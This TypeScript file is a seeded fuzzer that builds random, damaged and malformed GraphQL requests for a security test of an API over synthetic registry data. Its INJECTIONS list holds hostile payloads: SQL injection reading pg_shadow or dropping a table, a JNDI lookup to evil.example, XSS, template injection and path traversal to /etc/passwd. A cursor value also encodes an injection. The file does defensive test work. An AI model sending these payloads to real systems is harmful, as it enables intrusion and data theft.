/**
 * Random GraphQL requests for the fuzz test (test/security/fuzz.test.ts), from a seeded PRNG
 * so that a seed replays the same requests: valid operations generated from the API schema —
 * random selections, aliases, fragments and directives, arguments drawn from real keys of the
 * test world, checksum-valid and checksum-failing IDs, and injection strings, as literals or
 * variables — then, for some, random damage to the text (truncation, duplication, deletion,
 * stray tokens) or to the request body's shape.
 */
import {
  getNamedType,
  isAbstractType,
  isCompositeType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  type GraphQLArgument,
  type GraphQLInputType,
  type GraphQLNamedType,
  type GraphQLObjectType,
  type GraphQLSchema,
} from 'graphql';
import { Prng } from '../../lib/synthetic/prng';
import { makeIdNumber, makeUscc, USCC_ALPHABET } from '../../lib/ids';
import { SEAL_PREFIX } from '../../lib/policy/seal';
import type { World } from '../../lib/synthetic';

/** What one request sends: the JSON body's members (any shape), and how it was made. */
export interface FuzzRequest {
  body: Record<string, unknown>;
  /** `valid` from the schema as generated; `damaged` text; `odd-body` a body of the wrong shape. */
  kind: 'valid' | 'damaged' | 'odd-body';
}

/** Strings an attacker tries in every argument (none of them may reach SQL as code). */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE \"RK_CZRK\"; --",
  '1; SELECT pg_sleep(10)--',
  "' UNION SELECT usename, passwd FROM pg_shadow --",
  '") OR 1=1 --',
  '%',
  '_',
  '%_%\\',
  '\\',
  '$1',
  '?',
  '??',
  ':name',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '\u0000',
  'a\u0000b',
  '{"$gt": ""}',
  '__proto__',
  'constructor',
  '\u202e1238',
  '３２０１０２１９８００１０１１２３８',
  '😀'.repeat(50),
  'x'.repeat(10_000),
  `${SEAL_PREFIX}AAAA.BBBB`,
  `${SEAL_PREFIX}${Buffer.from('320102198001011238').toString('base64url')}.${'A'.repeat(40)}`,
];

/**
 * How often a root field is chosen: persons most (their data is what the access log is
 * about), the other departments' data next, the platform's workflow and log least.
 */
const ROOT_WEIGHTS: Record<string, number> = { person: 10, persons: 8, household: 6, legalPerson: 4, legalPersons: 3, division: 3, divisionAt: 2, parcel: 3, parcelsNear: 2 };

const WORDS = ['李建国', '南京', '玄武区', '科技', '有限公司', 'dibao-verification', 'tax-audit', 'a', '', ' ', '320102', 'null', 'true', '0'];

/** Tokens stray text is made of. */
const STRAY = ['{', '}', '(', ')', '[', ']', ':', '!', '$', '@', '...', '"', '"""', '#', ',', '=', '|', '&', 'on', 'fragment', 'query', 'mutation', 'subscription', 'null', '0', '-1', '1e999', '__schema { types { name } }', '__type(name: "Person") { fields { name } }', '@include(if: true)', '@skip(if: $nope)', '\u0000', '\\u0000', '\n', '\t'];

export interface FuzzPools {
  idNumbers: string[];
  /** Persons of 玄武区, the test caseworker's jurisdiction: their data is released, so logged. */
  localIdNumbers: string[];
  usccs: string[];
  households: string[];
  parcels: string[];
  divisions: string[];
  certificates: string[];
}

/** Keys of the test world, so many generated requests find real records. */
export function poolsOf(world: World): FuzzPools {
  return {
    idNumbers: world.persons.map((p) => p.idNumber),
    localIdNumbers: world.persons.filter((p) => p.divisionCode === '320102').map((p) => p.idNumber),
    usccs: world.companies.map((c) => c.uscc),
    households: world.households.map((h) => h.number),
    parcels: world.parcels.map((p) => p.code),
    divisions: [...new Set([...world.persons.map((p) => p.divisionCode), ...world.parcels.map((p) => p.streetCode), '320000', '320100'])],
    certificates: world.rights.map((r) => r.certificateNo),
  };
}

export class DocumentFuzzer {
  private variables: string[] = [];
  private values: Record<string, unknown> = {};
  private fragments: string[] = [];
  private counter = 0;
  /** Whether the operation being generated gets deliberate flaws (wrong types, missing or unknown arguments …). */
  private flawed = false;

  constructor(
    private readonly schema: GraphQLSchema,
    private readonly rng: Prng,
    private readonly pools: FuzzPools,
  ) {}

  /** The next request. */
  next(): FuzzRequest {
    const roll = this.rng.next();
    if (roll < 0.04) return { kind: 'odd-body', body: this.oddBody() };
    const { query, variables, operationName } = this.operation();
    if (roll < 0.25) return { kind: 'damaged', body: { query: this.damage(query), variables, ...(operationName ? { operationName } : {}) } };
    return { kind: 'valid', body: { query, variables, ...(operationName && this.rng.chance(0.5) ? { operationName } : {}) } };
  }

  /** A generated operation: its text, variables and name. */
  operation(): { query: string; variables: Record<string, unknown>; operationName?: string } {
    this.variables = [];
    this.values = {};
    this.fragments = [];
    this.flawed = this.rng.chance(0.15);
    const mutation = this.schema.getMutationType();
    const kind = mutation && this.rng.chance(0.05) ? 'mutation' : 'query';
    const root = kind === 'mutation' ? mutation! : this.schema.getQueryType()!;
    const selection = this.selectionSet(root, 0, this.rng.int(2, 5));
    const name = this.rng.chance(0.6) ? `Fuzz${this.rng.int(1, 9999)}` : undefined;
    const header = `${kind}${name ? ` ${name}` : ''}${this.variables.length ? `(${this.variables.join(', ')})` : ''}`;
    const query = [`${header} ${selection}`, ...this.fragments].join('\n');
    return { query, variables: this.values, operationName: name };
  }

  /**
   * @param member set inside `... on T` of a union or interface: fields get a `t_` alias, since
   *   the same name on two member types with different types (`String` and `String!`) would not
   *   validate.
   */
  private selectionSet(type: GraphQLNamedType, depth: number, maxDepth: number, member = false): string {
    const parts: string[] = [];
    if (isAbstractType(type)) {
      // __typename first, always: the fuzz test tells a Person from a LegalPerson by it.
      parts.push('__typename');
      const possible = this.schema.getPossibleTypes(type);
      for (const t of this.sample(possible, this.rng.int(1, possible.length))) parts.push(`... on ${t.name} ${this.selectionSet(t, depth, maxDepth, true)}`);
      return `{ ${parts.join(' ')} }`;
    }
    const object = type as GraphQLObjectType;
    const fields = Object.values(object.getFields());
    const wanted = depth === 0 ? this.rng.int(1, 3) : this.rng.int(1, 4);
    // At the root, the departments' data more often than the platform's own records.
    const chosen = depth === 0 ? this.sampleWeighted(fields, wanted, (f) => ROOT_WEIGHTS[f.name] ?? 1) : this.sample(fields, wanted);
    for (const field of chosen) {
      const named = getNamedType(field.type);
      const composite = isCompositeType(named);
      if (composite && depth + 1 >= maxDepth) continue;
      const alias = member ? `${object.name.toLowerCase()}_${field.name}: ` : this.rng.chance(0.08) ? `a${++this.counter}: ` : '';
      const args = this.arguments(field.args);
      const directive = this.rng.chance(0.04) ? this.directive() : '';
      const sub = composite ? ` ${this.selectionSet(named, depth + 1, maxDepth)}` : '';
      parts.push(`${alias}${field.name}${args}${directive}${sub}`);
    }
    if (!parts.length) parts.push('__typename');
    if (this.rng.chance(0.05) && depth > 0 && !member) {
      // Some of it through a named fragment.
      const name = `F${++this.counter}`;
      this.fragments.push(`fragment ${name} on ${object.name} { ${parts.join(' ')} }`);
      return `{ ...${name} }`;
    }
    return `{ ${parts.join(' ')} }`;
  }

  private directive(): string {
    if (this.rng.chance(0.5)) return ` @${this.rng.pick(['include', 'skip'])}(if: ${this.rng.chance(0.5)})`;
    const v = `v${++this.counter}`;
    this.variables.push(`$${v}: Boolean!`);
    this.values[v] = this.flaw(0.3) ? 'yes' : this.rng.chance(0.5);
    return ` @${this.rng.pick(['include', 'skip'])}(if: $${v})`;
  }

  private arguments(args: readonly GraphQLArgument[]): string {
    const given: string[] = [];
    for (const arg of args) {
      if (!isNonNullType(arg.type) && !this.rng.chance(0.4)) continue;
      if (isNonNullType(arg.type) && this.flaw(0.1)) continue; // a required argument missing
      if (this.rng.chance(0.3)) {
        const v = `v${++this.counter}`;
        // Now and then the declared type is wrong, or the value does not fit it.
        const declared = this.flaw(0.1) ? this.rng.pick(['String', 'Int!', '[ID!]!', 'Boolean', 'Nope']) : String(arg.type);
        this.variables.push(`$${v}: ${declared}`);
        const value = this.flaw(0.2) ? this.rng.pick([null, 42, 'x', [], {}, true, [null], 1.5]) : this.json(arg.type, arg.name);
        if (value !== undefined) this.values[v] = value;
        given.push(`${arg.name}: $${v}`);
      } else {
        given.push(`${arg.name}: ${this.literal(arg.type, arg.name)}`);
      }
    }
    if (this.flaw(0.05)) given.push(`${this.rng.pick(['bogus', 'idNumber', 'first'])}: ${this.rng.int(0, 9)}`);
    return given.length ? `(${given.join(', ')})` : '';
  }

  /** A JSON value for a variable of `type`. */
  private json(type: GraphQLInputType, name: string): unknown {
    if (isNonNullType(type)) return this.flaw(0.05) ? null : this.json(type.ofType, name);
    if (this.rng.chance(0.03)) return null;
    if (isListType(type)) return Array.from({ length: this.rng.weighted([[0, 1], [1, 4], [this.rng.int(2, 8), 3], [this.rng.int(20, 50), 1]]) }, () => this.json(type.ofType, name));
    if (isInputObjectType(type)) {
      const out: Record<string, unknown> = {};
      for (const f of Object.values(type.getFields())) if (isNonNullType(f.type) || this.rng.chance(0.5)) out[f.name] = this.json(f.type, f.name);
      return out;
    }
    if (isEnumType(type)) return this.flaw(0.2) ? 'NOT_A_VALUE' : this.rng.pick(type.getValues()).name;
    return this.scalar(type.name, name);
  }

  /** A GraphQL literal for an argument of `type`. */
  private literal(type: GraphQLInputType, name: string): string {
    if (isNonNullType(type)) return this.flaw(0.05) ? 'null' : this.literal(type.ofType, name);
    if (this.rng.chance(0.03)) return 'null';
    if (isListType(type)) return `[${Array.from({ length: this.rng.weighted([[0, 1], [1, 4], [this.rng.int(2, 6), 3]]) }, () => this.literal(type.ofType, name)).join(', ')}]`;
    if (isInputObjectType(type)) {
      const fields = Object.values(type.getFields()).filter((f) => isNonNullType(f.type) || this.rng.chance(0.5));
      return `{ ${fields.map((f) => `${f.name}: ${this.literal(f.type, f.name)}`).join(', ')} }`;
    }
    if (isEnumType(type)) return this.flaw(0.2) ? 'NOT_A_VALUE' : this.rng.pick(type.getValues()).name;
    const value = this.scalar(isScalarType(type) ? type.name : 'String', name);
    return typeof value === 'string' ? JSON.stringify(value) : String(value);
  }

  /** A value for a scalar, chosen by the argument's name where that says what it is. */
  private scalar(typeName: string, name: string): unknown {
    const r = this.rng;
    if (typeName === 'Boolean') return r.chance(0.95) ? r.chance(0.5) : 'true';
    if (typeName === 'Int') return r.pick([0, 1, 2, 5, 10, 20, 50, 100, 500, 1000, 1001, -1, -2147483648, 2147483647, r.int(0, 300)]);
    if (typeName === 'Float') {
      if (/lng/i.test(name)) return r.chance(0.8) ? 118.6 + r.next() * 0.4 : r.pick([0, -181, 181, 1e308, -0.0001]);
      if (/lat/i.test(name)) return r.chance(0.8) ? 31.9 + r.next() * 0.3 : r.pick([0, -91, 91, 1e308]);
      if (/radius/i.test(name)) return r.pick([0, 1, 50, 200, 1000, 5000, 50000, -10, 1e12]);
      return r.pick([0, 1.5, -1, 1e308, r.next() * 1000]);
    }
    if (typeName === 'Date') return r.pick(['2025-01-01', '2026-01-01', '2025-02-30', '2025-13-01', '1900-01-01', '', 'yesterday']);
    if (typeName === 'DateTime') return r.pick(['2026-01-01T00:00:00+08:00', '2026-01-01T00:00:00Z', '2026-13-01T00:00:00Z', 'now']);
    if (r.chance(/idNumber/i.test(name) ? 0.06 : 0.15)) return r.pick(INJECTIONS);
    if (/idNumber|subjectKey/i.test(name)) return this.idNumber();
    if (/uscc/i.test(name)) return this.uscc();
    if (/certificate/i.test(name)) return r.chance(0.8) ? r.pick(this.pools.certificates) : '苏(2099)南京市不动产权第9999999号';
    if (/number/i.test(name)) return r.chance(0.8) ? r.pick(this.pools.households) : r.pick(['320102000000', '32010200000X', '1']);
    if (/division|^code$/i.test(name)) return r.chance(0.5) ? r.pick(this.pools.divisions) : r.chance(0.7) ? r.pick(this.pools.parcels) : r.pick(['320199', '999999', '32010', '3201020010']);
    if (/^after$|cursor/i.test(name)) return r.pick(['', 'MQ', 'bm90IGEgY3Vyc29y', Buffer.from(`{"at":"x","id":"' OR 1=1"}`).toString('base64url'), r.pick(INJECTIONS)]);
    if (/grant|^id$/i.test(name)) return r.pick(['G-DEMO-0001', 'G-0000', 'A-0001', '1', '']);
    if (/purpose/i.test(name)) return r.pick(['dibao-verification', 'tax-audit', '']);
    if (/provider|dept|department/i.test(name)) return r.pick(['public-security', 'market-regulation', 'natural-resources', 'big-data-center', 'human-resources', 'civil-affairs', 'nobody']);
    if (/path/i.test(name)) return r.pick(['Person.phone', 'Person.name', 'LegalPerson.name', 'Nope.nope', '']);
    return r.pick(WORDS);
  }

  /** A 身份号码: real, checksum-valid but unknown, or failing its checksum or shape. */
  private idNumber(): string {
    const r = this.rng;
    const roll = r.next();
    if (roll < 0.4) return r.pick(this.pools.localIdNumbers);
    if (roll < 0.7) return r.pick(this.pools.idNumbers);
    const made = makeIdNumber(r.pick(['320102', '320104', '320115', '110101', '999999']), `${r.int(1930, 2024)}-${String(r.int(1, 12)).padStart(2, '0')}-${String(r.int(1, 28)).padStart(2, '0')}`, r.int(0, 999));
    if (roll < 0.85) return made;
    const wrongCheck = made.slice(0, 17) + (made[17] === '0' ? '1' : '0');
    return r.pick([wrongCheck, made.slice(0, 17), made.toLowerCase(), ` ${made} `, made + '0', made.slice(0, 6) + '19991399' + made.slice(14)]);
  }

  /** A 统一社会信用代码: real, checksum-valid but unknown, or failing. */
  private uscc(): string {
    const r = this.rng;
    const roll = r.next();
    if (roll < 0.6) return r.pick(this.pools.usccs);
    const body = Array.from({ length: 8 }, () => r.pick([...USCC_ALPHABET.slice(0, 31)])).join('');
    const made = makeUscc('9', '1', r.pick(['320102', '320115', '110101']), body);
    if (roll < 0.8) return made;
    return r.pick([made.slice(0, 17) + (made[17] === '0' ? '1' : '0'), made.slice(0, 17), made.replace(/^9/, 'I'), made.toLowerCase()]);
  }

  /** Random damage to a document's text. */
  private damage(text: string): string {
    let t = text;
    for (let n = this.rng.int(1, 3); n > 0; n--) {
      const at = this.rng.int(0, t.length);
      const len = this.rng.int(1, Math.max(1, Math.floor(t.length / 4)));
      switch (this.rng.int(0, 5)) {
        case 0:
          t = t.slice(0, at);
          break;
        case 1:
          t = t.slice(0, at) + t.slice(at, at + len) + t.slice(at);
          break;
        case 2:
          t = t.slice(0, at) + t.slice(at + len);
          break;
        case 3:
          t = `${t.slice(0, at)} ${this.rng.pick(STRAY)} ${t.slice(at)}`;
          break;
        case 4: {
          // A field of some other type, where it may or may not exist.
          const types = Object.values(this.schema.getTypeMap()).filter((x): x is GraphQLObjectType => isObjectType(x) && !x.name.startsWith('__'));
          const field = this.rng.pick(Object.keys(this.rng.pick(types).getFields()));
          t = `${t.slice(0, at)} ${field} ${t.slice(at)}`;
          break;
        }
        default:
          t = t.repeat(this.rng.int(2, 4));
      }
    }
    return t;
  }

  /** A body whose members have the wrong shapes. */
  private oddBody(): Record<string, unknown> {
    const { query, variables } = this.operation();
    return this.rng.pick<Record<string, unknown>>([
      { query: 42 },
      { query: null },
      { query: [query] },
      { query: { query } },
      { query, variables: 'not an object' },
      { query, variables: [variables] },
      { query, operationName: 'NoSuchOperation' },
      { query, operationName: 17 },
      { query, extensions: { persistedQuery: { version: 1, sha256Hash: '0'.repeat(64) } } },
      { extensions: { persistedQuery: { version: 1, sha256Hash: 'f'.repeat(64) } } },
      { query, variables, extra: { deep: [1, 2, 3] } },
      {},
    ]);
  }

  /** In a flawed operation, true with probability `p`. */
  private flaw(p: number): boolean {
    return this.flawed && this.rng.chance(p);
  }

  /** `count` distinct items of `items`, each drawn by `weight`. */
  private sampleWeighted<T>(items: readonly T[], count: number, weight: (item: T) => number): T[] {
    const pool = items.map((item) => [item, weight(item)] as const);
    const out: T[] = [];
    while (out.length < count && pool.length) {
      const pick = this.rng.weighted(pool.map(([, w], i) => [i, w] as const));
      out.push(pool.splice(pick, 1)[0][0]);
    }
    return out;
  }

  /** `count` distinct items of `items` in random order. */
  private sample<T>(items: readonly T[], count: number): T[] {
    const pool = [...items];
    const out: T[] = [];
    while (out.length < count && pool.length) out.push(pool.splice(this.rng.int(0, pool.length - 1), 1)[0]);
    return out;
  }
}
